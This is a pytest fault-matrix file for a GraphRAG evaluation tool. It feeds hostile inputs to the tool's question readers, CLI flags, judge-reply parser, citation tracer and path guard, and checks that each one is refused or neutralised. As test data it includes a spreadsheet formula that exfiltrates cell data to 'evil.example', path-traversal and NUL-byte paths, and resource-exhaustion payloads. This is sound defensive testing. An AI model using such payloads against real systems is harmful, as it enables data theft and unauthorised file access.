"""Fault matrix, the surfaces of issues 26–28 as an outsider meets them: ``eval``'s question files, flags and
outputs, the judge's replies, citations in hostile answers, and the server's access settings.

Families (each case counted by ``pytest --collect-only``):

- question files: every reader (our JSONL, MultiHop-RAG, HotpotQA / 2Wiki, GraphRAG-Bench) given hostile,
  huge, malformed or mistyped records: one line naming the record and what is wrong, in bounded time;
- eval flags and outputs: every bad flag and every bad ``--csv`` / ``--json`` target is one line, exit 2,
  before anything runs, nothing written; a question id that is a spreadsheet formula is written as text;
- judge: replies that are empty, enormous, malformed, deeply nested or never come are counted as
  unreadable or failed, never a score;
- citations: pathological answers finish fast, in bounded memory, and come out as data (JSON that encodes);
- access: the operator's settings and a visitor's paths (symlinks, ``..``, NUL, normalisation, case, ``/``).
"""

from __future__ import annotations

import json
import os
import sys
import time
import tracemalloc
import unicodedata
from pathlib import Path

import pytest

from graphrag_ui import cli
from graphrag_ui.base import access
from graphrag_ui.base.errors import UserError
from graphrag_ui.citations import citations_json, summary_line, trace_answer
from graphrag_ui.evaluation.formats import MAX_PROBLEMS, load_questions, read_questions
from graphrag_ui.evaluation.judge import OK, UNREADABLE, read_verdict
from graphrag_ui.services import sweep
from tests.support.llm_server import Reply, Script, start_server  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
INDEX = ROOT / "data" / "sample" / "en" / "index"
GOOD = {"id": "q1", "question": "Who is the Lock Queen?", "evidence_entities": ["Lock Queen"]}


def _line(obj) -> str:
    return json.dumps(obj) + "\n"


def _said(code: int, out: str, err: str, said: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert code == 2 and len(lines) == 1 and lines[0].startswith("error: ") and said in lines[0], err[-600:]
    assert "Traceback" not in err and out == ""


# --- question files ---------------------------------------------------------------------------------------

HP = {"_id": "h1", "question": "q?", "supporting_facts": [["T", 0]], "context": [["T", ["Sentence one."]]]}
REFUSED = [  # (name, file text, fmt, what the one line says)
    ("number of 5000 digits", '{"id": 1' + "0" * 5000 + ', "question": "q"}\n', "auto", "more than 4,300 digits"),
    ("NaN id", '{"id": NaN, "question": "q"}\n', "auto", "'id' must be a non-empty string, got nan"),
    ("Infinity id", '{"id": Infinity, "question": "q"}\n', "auto", "got inf"),
    ("fraction id", '{"id": 1.5, "question": "q"}\n', "auto", "got 1.5"),
    ("lone surrogate id", '{"id": "\\ud800", "question": "q"}\n', "auto", "lone surrogate U+d800 at character 1"),
    ("lone surrogate text", '{"id": "a", "question": "ab\\udfff"}\n', "auto", "'question' holds a lone surrogate"),
    ("multihop id object", '{"id": {"a": 1}, "query": "q"}\n', "auto", "'id' must be a non-empty string"),
    ("multihop id 100k", _line({"id": "x" * 100_000, "query": "q"}), "auto", "'id' is 100000 characters long"),
    ("multihop fact NaN", '{"query": "q", "evidence_list": [{"fact": NaN}]}\n', "auto", "must be a list of strings"),
    ("hotpot index Infinity", _line(HP).replace("0]]", "Infinity]]", 1), "auto", "'supporting_facts' must be"),
    ("hotpot index NaN", _line(HP).replace("0]]", "NaN]]", 1), "auto", "'supporting_facts' must be"),
    ("hotpot index 1e300", _line(HP).replace("0]]", "1e300]]", 1), "auto", "'supporting_facts' must be"),
    ("hotpot index fraction", _line(HP).replace("0]]", "0.9]]", 1), "auto", "'supporting_facts' must be"),
    ("hotpot index true", _line(HP).replace("0]]", "true]]", 1), "auto", "'supporting_facts' must be"),
    ("hotpot sentences object", _line({**HP, "context": [["T", {"a": "b"}]]}), "auto", "'supporting_facts' must be"),
    ("hotpot sentence object", _line({**HP, "context": [["T", [{"x": 1}]]]}), "auto", "'supporting_facts' must be"),
    ("hotpot 10^5 facts", _line({**HP, "supporting_facts": [["T", 0]] * 100_000}), "auto", "100000 items"),
    ("hotpot _id huge", _line({**HP, "_id": "x" * 30_000}), "auto", "'id' is 30000 characters long"),
    ("bench id list", _line({"id": ["a"], "question": "q", "question_type": "t"}), "auto", "'id' must be"),
    ("bench id false", _line({"id": False, "question": "q", "question_type": "t"}), "auto", "got False"),
    (
        "bench evidence object",
        _line({"id": "a", "question": "q", "question_type": "t", "evidence": {}}),
        "auto",
        "must be a list",
    ),
    ("deep nesting line", '{"id": "a", "x": ' + "[" * 100_000 + "]" * 100_000 + "}\n", "auto", "nested too deeply"),
    ("deep nesting array", "[" + "[" * 100_000 + "]" * 100_000 + "]", "auto", "JSON array that cannot be read"),
    ("array of 10^6 numbers", "[" + ",".join(["1"] * 1_000_000) + "]", "auto", "line 1: each record must be"),
    ("10^6 lines not JSON", "x\n" * 1_000_000, "auto", "line 1: not JSON"),
    ("null record", "null\n", "auto", "each record must be a JSON object, got NoneType"),
    ("forced format, other fields", _line(GOOD), "multihop-rag", "'query' must be a non-empty string"),
]


@pytest.mark.parametrize(("text", "fmt", "said"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_a_hostile_record_is_one_line_in_bounded_time(text: str, fmt: str, said: str) -> None:
    started = time.perf_counter()
    with pytest.raises(UserError) as caught:
        read_questions(text, "set.jsonl", fmt=fmt)
    assert time.perf_counter() - started < 5
    line = str(caught.value)
    assert said in line and "\n" not in line and len(line) < 600, line


READ = [  # (name, file text, questions read, a skipped line says)
    ("byte-order mark", "\ufeff" + _line(GOOD), 1, ""),
    ("10^6 duplicate lines", _line(GOOD) * 1_000_000, 1, f"more than {MAX_PROBLEMS} bad records"),
    ("10^6 blank lines", "\n" * 1_000_000 + _line(GOOD), 1, ""),
    ("a good line among 10^5 bad", "x\n" * 100_000 + _line(GOOD), 0, ""),
    ("whole-number id", _line({**GOOD, "id": 7}), 1, ""),
    ("bench id 0 kept", _line({"id": 0, "question": "q", "question_type": "t"}), 1, ""),
    ("formula id kept as data", _line({**GOOD, "id": '=HYPERLINK("http://x","y")'}), 1, ""),
    ("NUL and escapes kept as data", _line({**GOOD, "id": "a\x00\x1b[2J"}), 1, ""),
]


@pytest.mark.parametrize(("text", "n", "skipped"), [c[1:] for c in READ], ids=[c[0] for c in READ])
def test_a_file_of_many_records_reads_in_bounded_time(text: str, n: int, skipped: str) -> None:
    started = time.perf_counter()
    if n == 0:  # the bad lines stop the reader before the good one: said, never read to the end
        with pytest.raises(UserError, match=f"line 1: not JSON .*; line 1000: more than {MAX_PROBLEMS} bad records"):
            read_questions(text, "set.jsonl")
        return
    got = read_questions(text, "set.jsonl")
    assert time.perf_counter() - started < 5
    assert len(got.questions) == n
    assert len(got.skipped) <= MAX_PROBLEMS + 1
    if skipped:
        assert skipped in str(got.skipped[-1])


def test_the_first_bad_record_is_named_when_none_is_readable() -> None:
    with pytest.raises(UserError, match=r"holds no readable question: line 2: 'question' must be"):
        read_questions("\n" + _line({"id": "a", "question": 3}), "set.jsonl")


@pytest.mark.parametrize("kind", ["folder", "fifo", "missing", "not utf-8", "too big", "proc"])
def test_a_question_path_that_is_no_file_is_said(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "q.jsonl"
    said = {
        "folder": "is a folder",
        "fifo": "not a regular file",
        "missing": "no such question file",
        "not utf-8": r"not UTF-8 \(byte 8\)",
        "too big": "more than 67,108,864 bytes",
        "proc": "holds no readable question",
    }[kind]
    if kind == "folder":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)  # reading it would wait for a writer forever
    elif kind == "not utf-8":
        path.write_bytes(b'{"id": "\xff\xfe"}\n')
    elif kind == "too big":
        with path.open("wb") as handle:
            handle.truncate(64 * 1024 * 1024 + 1)  # sparse: no disk used
    elif kind == "proc":
        path = Path("/proc/self/status")  # says 0 bytes, holds more
    started = time.perf_counter()
    with pytest.raises(UserError, match=said):
        load_questions(path)
    assert time.perf_counter() - started < 5


# --- eval flags and outputs -----------------------------------------------------------------------------

BAD_FLAGS = [
    (["--workers", "1000"], "--workers must be between 1 and 8"),
    (["--workers", "-1"], "--workers must be between 1 and 8"),
    (["--judge", "--judge-budget", "-1"], "--judge-budget must be a number of dollars"),
    (["--judge", "--judge-budget", "inf"], "--judge-budget must be a number of dollars"),
    (["--judge", "--judge-budget", "nan"], "--judge-budget must be a number of dollars"),
    (["--judge", "--judge-concurrency", "0"], "--judge-concurrency must be between 1 and 16"),
    (["--judge", "--judge-concurrency", "1000"], "--judge-concurrency must be between 1 and 16"),
    (["--mode", "no.such"], "unknown mode 'no.such'"),
    (["--version", "nano.local=x"], "mode nano.local has no version 'x'"),
    (["--param", "nonsense=3"], "no chosen mode has a parameter 'nonsense'"),
    (["--param", "top_k=nan"], "parameter top_k expects a whole number, got 'nan'"),
    (["--param", "top_k=99999999999999999999999"], "above its maximum"),
    (["--param", "query_better_than_threshold=nan,0.5"], "finite number"),  # either reader says it
    (["--param", "top_k=5:10:0"], "5:10:0"),
    (["--param", "top_k=5,10", "--param", "query_better_than_threshold=0.1,0.2"], "more than one range"),
    (["--param", "=5"], "--param expects name=value"),
    (["--compare", "x", "y"], "--compare 'x' is not a config of this run"),
]
# sweep ranges of astronomically many steps (or infinite ends) hung or crashed in sweep.parse_values; the fix
# (counting before building the list) is the secdata branch's: these cases run once it is merged
RANGES = [
    (["--param", "top_k=5:1000000000:1"], "steps, more than 200"),
    (["--param", "query_better_than_threshold=0:1:1e-300"], "steps, more than 200"),
    (["--param", "query_better_than_threshold=0:inf:0.1"], "not a finite number"),
    (["--param", "top_k=" + ",".join(str(i) for i in range(1, 100_000))], "steps, more than 200"),
]
RANGES_FIXED = hasattr(sweep, "range_values")


def _eval(capsys: pytest.CaptureFixture, questions: Path, *extra: str, index: Path = INDEX) -> tuple[int, str, str]:
    argv = ["eval", "--index", str(index), "--questions", str(questions), "--mode", "nano.local", *extra]
    code = cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture()
def questions(tmp_path: Path) -> Path:
    path = tmp_path / "q.jsonl"
    path.write_text(_line(GOOD), encoding="utf-8")
    return path


@pytest.mark.parametrize(("extra", "said"), BAD_FLAGS, ids=[" ".join(e)[:40] for e, _ in BAD_FLAGS])
def test_a_bad_flag_is_one_line(capsys, questions: Path, monkeypatch, extra: list[str], said: str) -> None:
    monkeypatch.setenv("GRAPHRAG_UI_LLM_MODEL", "openai/judge-test")  # --judge checks its own flags first
    started = time.perf_counter()
    _said(*_eval(capsys, questions, *extra), said)
    assert time.perf_counter() - started < 30


@pytest.mark.skipif(not RANGES_FIXED, reason="sweep ranges are bounded on the secdata branch (not merged yet)")
@pytest.mark.parametrize(("extra", "said"), RANGES, ids=[e[1][:40] for e, _ in RANGES])
def test_a_range_of_endless_steps_is_one_line(capsys, questions: Path, extra: list[str], said: str) -> None:
    started = time.perf_counter()
    _said(*_eval(capsys, questions, *extra), said)
    assert time.perf_counter() - started < 30


OUTPUTS = [  # (flags, with {q} the question file, {tmp} its folder, {idx} the index; what the line says)
    (["--csv", "{q}"], "the output file is the question file"),
    (["--json", "{tmp}/../{tmpname}/q.jsonl"], "the output file is the question file"),
    (["--csv", "{tmp}/a.csv", "--json", "{tmp}/./a.csv"], "--csv and --json name the same file"),
    (["--csv", "-", "--json", "-"], "only one of --csv and --json can go to stdout"),
    (["--csv", ""], "--csv and --json need a file name"),
    (["--csv", "{tmp}"], "the output file is a folder"),
    (["--csv", "{tmp}/no/such/a.csv"], "no such folder for the output file"),
    (["--csv", "/proc/version"], "cannot write into the output file's folder"),
    (["--csv", "/dev/null"], "the output file is not a regular file"),
    (["--json", "{idx}/manifest.json"], "the output file is inside the index folder"),
    (["--csv", "{idx}"], "the output file is inside the index folder"),
]


@pytest.mark.parametrize(("extra", "said"), OUTPUTS, ids=[" ".join(e)[:50] for e, _ in OUTPUTS])
def test_a_bad_output_is_refused_before_the_run(capsys, questions: Path, extra: list[str], said: str) -> None:
    tmp = questions.parent
    index = tmp / "index"  # a stand-in: the outputs are refused before any index is opened (and the old
    index.mkdir()  # code wrote its JSON over the sample's own manifest.json here)
    (index / "manifest.json").write_text('{"format": 1}')
    before = {p: p.read_bytes() for p in (questions, index / "manifest.json")}
    argv = [a.format(q=questions, tmp=tmp, tmpname=tmp.name, idx=index) for a in extra]
    started = time.perf_counter()
    _said(*_eval(capsys, questions, *argv, index=index), said)
    assert time.perf_counter() - started < 5
    assert {p: p.read_bytes() for p in before} == before
    assert sorted(p.name for p in tmp.iterdir()) == ["index", "q.jsonl"]  # nothing written, no temporary left
    assert sorted(p.name for p in index.iterdir()) == ["manifest.json"]


def test_results_are_whole_and_keep_the_file_mode(capsys, questions: Path) -> None:
    out = questions.parent / "rows.csv"
    out.write_text("old results\n")
    out.chmod(0o640)
    code, _, err = _eval(capsys, questions, "--csv", str(out))
    assert code == 0, err
    assert out.read_text().startswith("id,mode,") and (out.stat().st_mode & 0o777) == 0o640
    assert sorted(p.name for p in questions.parent.iterdir()) == ["q.jsonl", "rows.csv"]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_a_formula_in_a_question_id_or_gold_is_written_as_text(capsys, tmp_path: Path) -> None:
    import csv
    import io

    path = tmp_path / "q.jsonl"
    path.write_text(
        "".join(_line({**GOOD, "id": f, "evidence_entities": [f]}) for f in FORMULAS) + "\n", encoding="utf-8"
    )
    code, out, err = _eval(capsys, path, "--csv", "-")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) == 1 + len(FORMULAS)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert {r[0] for r in rows[1:]} == {"'" + f for f in FORMULAS}  # the text itself is kept, marked as text


def test_a_lone_surrogate_from_the_index_side_never_breaks_the_terminal(capsys) -> None:
    from graphrag_ui.base.terminal import safe_text

    assert safe_text("a\ud800b", one_line=True) == "a\\ud800b"
    code = cli.main(["eval", "--index", str(INDEX), "--questions", "/no/such\udcff.jsonl"])
    out, err = capsys.readouterr()
    assert code == 2 and "\\udcff" in err
    err.encode("utf-8")


# --- judge replies --------------------------------------------------------------------------------------

JUDGE_REPLIES = {  # what the judge says -> the status it must get
    "empty": ("", UNREADABLE),
    "whitespace": ("   \n ", UNREADABLE),
    "enormous": ('{"verdict": "correct"}' + "x" * 2_000_000, UNREADABLE),
    "not JSON": ("correct, I think", UNREADABLE),
    "half JSON": ('{"verdict": "corr', UNREADABLE),
    "verdict a list": ('{"verdict": ["correct"]}', UNREADABLE),
    "verdict unknown": ('{"verdict": "excellent"}', UNREADABLE),
    "deep nesting": ("{" * 1500 + "}" * 1500, UNREADABLE),
    "two objects": ('{"verdict": "correct"} {"verdict": "incorrect"}', UNREADABLE),
    "NaN reason": ('{"verdict": "correct", "reason": NaN}', OK),
    "fenced": ('```json\n{"verdict": "correct", "reason": "fine"}\n```', OK),
}


@pytest.mark.parametrize("name", JUDGE_REPLIES)
def test_a_judge_reply_is_read_strictly(name: str) -> None:
    text, status = JUDGE_REPLIES[name]
    started = time.perf_counter()
    verdict = read_verdict("correctness", text)
    assert time.perf_counter() - started < 1
    assert verdict.status == status and len(verdict.raw) <= 4000
    assert (verdict.score is not None) is (status == OK)


@pytest.fixture()
def judge_server(tmp_path: Path, monkeypatch, no_network):
    replies: dict[str, Reply] = {}

    def reply(body: dict) -> Reply:
        system = body["messages"][0]["content"]
        kind = "judge" if system.startswith(("You grade", "You check whether")) else "answer"
        return replies.get(kind, Reply(text='{"verdict": "correct", "reason": "ok"}'))

    url, stop = start_server(Script(reply))
    monkeypatch.setenv("GRAPHRAG_UI_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GRAPHRAG_UI_LLM_MODEL", "openai/judge-test")
    monkeypatch.setenv("GRAPHRAG_UI_LLM_API_BASE", url)
    monkeypatch.setenv("GRAPHRAG_UI_LLM_TIMEOUT", "1")
    monkeypatch.setenv("GRAPHRAG_UI_LLM_MAX_RETRIES", "0")
    path = tmp_path / "q.jsonl"
    path.write_text(_line({**GOOD, "answer": "Ysolde Varrick"}), encoding="utf-8")
    yield replies, path
    stop()


SERVED = {  # (which call, its reply) -> the status both judgements get
    "answer empty": ("answer", Reply(text=""), "error"),
    "answer never comes": ("answer", Reply(delay=5), "error"),
    "answer is a 500": ("answer", Reply(status=500), "error"),
    "answer not JSON": ("answer", Reply(fault="invalid_json"), "error"),
    "judge empty": ("judge", Reply(text=""), "unreadable"),
    # past the reply bound (16 characters a token of GRAPHRAG_UI_LLM_MAX_TOKENS): refused by the client, an error
    "judge enormous": ("judge", Reply(text="y" * 300_000), "error"),
    "judge malformed": ("judge", Reply(text='{"verdict": '), "unreadable"),
    "judge never comes": ("judge", Reply(delay=5), "error"),
    "judge no choices": ("judge", Reply(fault="empty_choices"), "error"),
}


@pytest.mark.parametrize("name", SERVED)
def test_a_bad_model_reply_is_counted_never_scored(judge_server, capsys, name: str) -> None:
    replies, path = judge_server
    kind, reply, status = SERVED[name]
    replies[kind] = reply
    out = path.parent / "rows.json"
    started = time.perf_counter()
    code, _, err = _eval(capsys, path, "--judge", "--json", str(out))
    assert time.perf_counter() - started < 60
    assert code == 0 and "Traceback" not in err, err[-800:]
    (row,) = json.loads(out.read_text(encoding="utf-8"))["rows"]
    for verdict in (row["judge"]["correctness"], row["judge"]["faithfulness"]):
        assert verdict["status"] == status and verdict["score"] is None, verdict
        assert len(verdict["raw"]) <= 4000


# --- citations ------------------------------------------------------------------------------------------

ANSWERS = {
    "100k [Data: openers": "[Data: " * 100_000,
    "100k unclosed groups": "[Data: Entities (" * 100_000,
    "100k groups in one marker": "[Data: " + "; ".join(f"Entities ({i})" for i in range(100_000)) + "]",
    "100k markers": "Fact. [Data: Entities (1)] " * 100_000,
    "deep brackets": "[" * 100_000 + "Data: Entities (1)" + "]" * 100_000,
    "deep parentheses": "[Data: Entities " + "(" * 100_000 + "1" + ")" * 100_000 + "]",
    "10^5 ids": "[Data: Entities (" + ",".join(str(i) for i in range(100_000)) + ")]",
    "huge number": "[Data: Entities (99999999999999999999)] [99999999999999999999]",
    "10k-digit number": "[Data: Entities (" + "9" * 10_000 + ")]",
    "range of a billion": "[Data: Entities (1-1000000000)] [1-1000000000]",
    "range to a 10k-digit number": "[Data: Entities (1-" + "9" * 10_000 + ")]",
    "many ranges": "[Data: Entities (" + ",".join(f"{i}-{i + 100}" for i in range(0, 100_000, 101)) + ")]",
    "full-width": "【数据：实体（1，2，3）；关系（4－5）】" * 5000,
    "control characters": "[Data: Entities (1\x00, 2\x1b[31m, \u202e3)]\x1b]0;x\x07 [1\x00]",
    "RTL marks": "\u202e[Data: \u200fEntities (\u202a1, 2\u202c)] \u2067[1]\u2069",
    "lone surrogates": "[Data: Entities (\ud800)] x\udfff [\ud800]",
    "inline [n] flood": "x [1] " * 100_000,
    "reference list flood": "### References\n" + "* [1] a.md\n" * 100_000,
    "one endless reference line": "### References\n* [1] " + "a" * 300_000,
    "KG line of 50k names": "References:\n[KG] " + "x - " * 50_000 + "\n",
    "200k lines": "a\n" * 200_000,
    "mixed flood": "[Data: Reports (1-3, +more)] 【1】 [2, 3] 。" * 20_000,
}
MODES = [("ms.local", ""), ("lightrag.hybrid", "1.5.7"), ("lightrag.local", "1.4.7")]


@pytest.fixture(scope="module")
def retrievals():
    from graphrag_ui.citations.support import words
    from graphrag_ui.index import store
    from graphrag_ui.services.query import run_query

    words("实体关系")  # jieba loads its dictionary once per process: not a cost of any answer (and slow traced)
    index = store.load(INDEX)
    question = "Who founded the Guild of Tidewrights, and what did he build?"
    out = {}
    for mode, version in MODES:
        params = {"version": version} if version else {}
        keywords = {"hl": ["guild"], "ll": ["Guild of Tidewrights"]} if mode.startswith("lightrag") else {}
        out[mode] = run_query(index, mode, question, params, **keywords)
    return out


@pytest.mark.parametrize("mode", [m for m, _ in MODES])
@pytest.mark.parametrize("name", ANSWERS)
def test_a_pathological_answer_is_traced_fast_and_as_data(retrievals, name: str, mode: str) -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        trace = trace_answer(ANSWERS[name], retrievals[mode])
        data = json.dumps(citations_json(trace), ensure_ascii=False)
        summary_line(trace)
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert seconds < 15, seconds  # tracemalloc roughly doubles the time; untraced these take under 3 s
    assert peak < 200 * 1024 * 1024 and len(data) < 20_000_000, (peak, len(data))
    assert sum(len(c.ids) for c in trace.all_citations()) <= 2000 * 500
    for citation in trace.all_citations():
        assert len(citation.text) <= 1000 and len(citation.sentence) <= 1000
        assert all(len(i.items) <= 1000 for i in citation.ids)
    json.loads(data.encode("utf-8", errors="backslashreplace"))  # a lone surrogate comes out as its JSON escape


def test_a_range_of_a_billion_is_kept_as_written(retrievals) -> None:
    trace = trace_answer("[Data: Entities (1-1000000000)]", retrievals["ms.local"])
    (citation,) = trace.citations
    assert [i.id for i in citation.ids] == ["1-1000000000"] and "too wide" in citation.note


@pytest.fixture()
def hostile_model(tmp_path: Path):
    answers: list[str] = []
    url, stop = start_server(Script(lambda body: Reply(text=answers[0], chunk_size=4096)))
    env = {
        **os.environ,
        "GRAPHRAG_UI_HOME": str(tmp_path),
        "GRAPHRAG_UI_LLM_MODEL": "openai/gpt-4o-mini",
        "GRAPHRAG_UI_LLM_API_BASE": url,
        "OPENAI_API_KEY": "sk-test-SECRET-probe",
        "PYTHONPATH": str(ROOT),
        # the citation reader is what is attacked here: let a reply reach it whole (the reply bound, 16
        # characters a token of GRAPHRAG_UI_LLM_MAX_TOKENS, has its own cases in test_fault_bounds)
        "GRAPHRAG_UI_LLM_MAX_TOKENS": "1000000",
    }
    yield answers, env
    stop()


@pytest.mark.parametrize("name", ["100k unclosed groups", "lone surrogates", "control characters", "mixed flood"])
def test_query_json_answer_with_a_hostile_answer(hostile_model, name: str) -> None:
    import subprocess

    answers, env = hostile_model
    answers.append(ANSWERS[name])
    argv = [sys.executable, "-m", "graphrag_ui", "query", "--index", str(INDEX), "--mode", "ms.local"]
    started = time.perf_counter()
    done = subprocess.run(
        [*argv, "--json", "--answer", "--no-cache", "Who founded the guild?"],
        capture_output=True,
        env=env,
        timeout=120,
    )
    assert time.perf_counter() - started < 60
    err = done.stderr.decode("utf-8")
    assert done.returncode == 0 and "Traceback" not in err, err[-800:]
    data = json.loads(done.stdout.decode("utf-8"))  # valid UTF-8 and valid JSON
    assert data["answer"]["text"][:50] == ANSWERS[name][:50]
    assert "sk-test-SECRET-probe" not in done.stdout.decode("utf-8") + err


# --- access ---------------------------------------------------------------------------------------------


@pytest.fixture()
def allowed(tmp_path: Path, monkeypatch) -> Path:
    folder = tmp_path / "allowed"
    (folder / "café").mkdir(parents=True)
    (folder / "Inside").mkdir()
    (tmp_path / "allowed-twin").mkdir()
    (tmp_path / "secret").mkdir()
    (folder / "out").symlink_to(tmp_path / "secret")
    (folder / "loop").symlink_to(folder / "loop")
    (folder / "hop").symlink_to(folder / "out")
    monkeypatch.setenv(access.ROOTS_ENV, str(folder))
    return folder


def _refused(guard: access.Access, typed: str) -> str:
    with pytest.raises(UserError) as caught:
        guard.source(typed)
    return str(caught.value).replace(repr(typed.strip()[:300]), "PATH")


OUTSIDE = [
    "{tmp}/secret",
    "{tmp}/no-such",
    "{allowed}/out",
    "{allowed}/out/deeper",
    "{allowed}/hop/x",
    "{allowed}/../secret",
    "{allowed}/Inside/../../secret",
    "{tmp}/allowed-twin",
    "{allowed}-twin",
    "{ALLOWED}",
    "relative/path",
    "./{rel}",
    "",
    "   ",
    "{allowed}\x00",
    "\x00",
    "/",
    "//",
    "~",
    "/proc/self/root{allowed}/../secret",
]


@pytest.mark.parametrize("typed", OUTSIDE)
def test_a_visitor_path_outside_the_roots_is_the_same_refusal(allowed: Path, tmp_path: Path, typed: str) -> None:
    guard = access.read(tmp_path / "home", tmp_path / "none.toml")
    path = typed.format(
        tmp=tmp_path,
        allowed=allowed,
        ALLOWED=str(allowed).upper(),
        rel=os.path.relpath(tmp_path / "secret"),
    )
    shown = _refused(guard, path)
    baseline = _refused(guard, str(tmp_path / "never-there"))
    assert shown == baseline.replace(repr(str(tmp_path / "never-there")), "PATH") or shown == baseline, shown


@pytest.mark.parametrize("form", ["NFC", "NFD", "NFKC"])
def test_a_root_is_matched_as_its_bytes_never_as_a_normalised_name(tmp_path: Path, monkeypatch, form: str) -> None:
    root = tmp_path / unicodedata.normalize("NFC", "café-ﬁles")  # é and the ﬁ ligature: three spellings
    root.mkdir()
    monkeypatch.setenv(access.ROOTS_ENV, str(root))
    guard = access.read(tmp_path / "home", tmp_path / "none.toml")
    typed = str(tmp_path / unicodedata.normalize(form, "café-ﬁles") / "x")
    if form == "NFC":
        assert guard.source(typed) == root / "x"
    else:  # another folder to the file system (Linux compares bytes): refused like any other
        assert "does not let the browser read" in _refused(guard, typed)


INSIDE = ["{allowed}", "{allowed}/café", "{allowed}/Inside/../café", "{allowed}//Inside/", "{allowed}/loop"]


@pytest.mark.parametrize("typed", INSIDE)
def test_a_visitor_path_inside_the_roots_resolves_inside(allowed: Path, tmp_path: Path, typed: str) -> None:
    guard = access.read(tmp_path / "home", tmp_path / "none.toml")
    got = guard.source(typed.format(allowed=allowed))
    assert got == allowed or allowed in got.parents


SETTINGS = [  # (the roots setting, how it is read: an error's words, or the roots it gives)
    ("relative/folder", "is not an absolute folder"),
    ("./x", "is not an absolute folder"),
    ("/", "the whole disk"),
    ("/srv/a:/", "the whole disk"),
    ("//", "the whole disk"),
    ("/srv/../", "the whole disk"),
    ("", ["{home}/sources"]),
    (":", []),
    (" /srv/a : /srv/b ", ["/srv/a", "/srv/b"]),
]


@pytest.mark.parametrize(("value", "expected"), SETTINGS)
def test_the_roots_setting_is_read_or_refused(tmp_path: Path, monkeypatch, value: str, expected) -> None:
    monkeypatch.setenv(access.ROOTS_ENV, value)
    if isinstance(expected, str):
        with pytest.raises(UserError, match=expected) as caught:
            access.read(tmp_path, tmp_path / "none.toml")
        assert access.ROOTS_ENV in str(caught.value)
        return
    got = access.read(tmp_path, tmp_path / "none.toml")
    assert [str(r) for r in got.roots] == [e.format(home=tmp_path) for e in expected]


@pytest.mark.parametrize(
    "secrets",
    [
        f'{access.ROOTS_ENV} = "/srv/a\\u0000b"',
        f'{access.ROOTS_ENV} = ["/srv/a", 5]',
        f'{access.ROOTS_ENV} = {{ a = "/srv" }}',
        f'{access.WRITES_ENV} = ["on"]',
        f"{access.WRITES_ENV} = true",
        f"{access.DB_HOSTS_ENV} = 5",
    ],
)
def test_a_malformed_secrets_value_is_one_line(tmp_path: Path, monkeypatch, secrets: str) -> None:
    for name in (access.ROOTS_ENV, access.WRITES_ENV, access.DB_HOSTS_ENV):
        monkeypatch.delenv(name, raising=False)
    path = tmp_path / "secrets.toml"
    path.write_text(secrets + "\n", encoding="utf-8")
    try:
        got = access.read(tmp_path, path)
    except UserError as exc:
        assert "\n" not in str(exc)
        return
    assert all(r.is_absolute() for r in got.roots) and got.writes in access.WRITES  # or read as written


@pytest.mark.parametrize("host", ["DB.internal", "db.internal.", "db.ınternal", "ｄｂ.internal", "*", ""])
def test_only_the_operators_hosts_get_the_servers_credentials(tmp_path: Path, monkeypatch, host: str) -> None:
    monkeypatch.setenv(access.DB_HOSTS_ENV, "db.internal")
    guard = access.read(tmp_path, tmp_path / "none.toml")
    assert guard.trusted_host(host) is (host == "DB.internal")


def test_an_existing_and_a_missing_path_take_the_same_time(allowed: Path, tmp_path: Path) -> None:
    """The refusal is the same text; it is also not measurably slower for a path that exists (medians of
    interleaved calls: a path checked is never opened, listed or read)."""
    guard = access.read(tmp_path / "home", tmp_path / "none.toml")
    deep = tmp_path / "secret" / "a" / "b" / "c"
    deep.mkdir(parents=True)
    timings: dict[str, list[float]] = {"there": [], "missing": []}
    for _ in range(300):
        for key, path in (("there", deep), ("missing", tmp_path / "secret" / "x" / "y" / "z")):
            started = time.perf_counter()
            with pytest.raises(UserError):
                guard.source(path)
            timings[key].append(time.perf_counter() - started)
    there, missing = (sorted(v)[len(v) // 2] for v in timings.values())
    assert abs(there - missing) < 0.001, (there, missing)
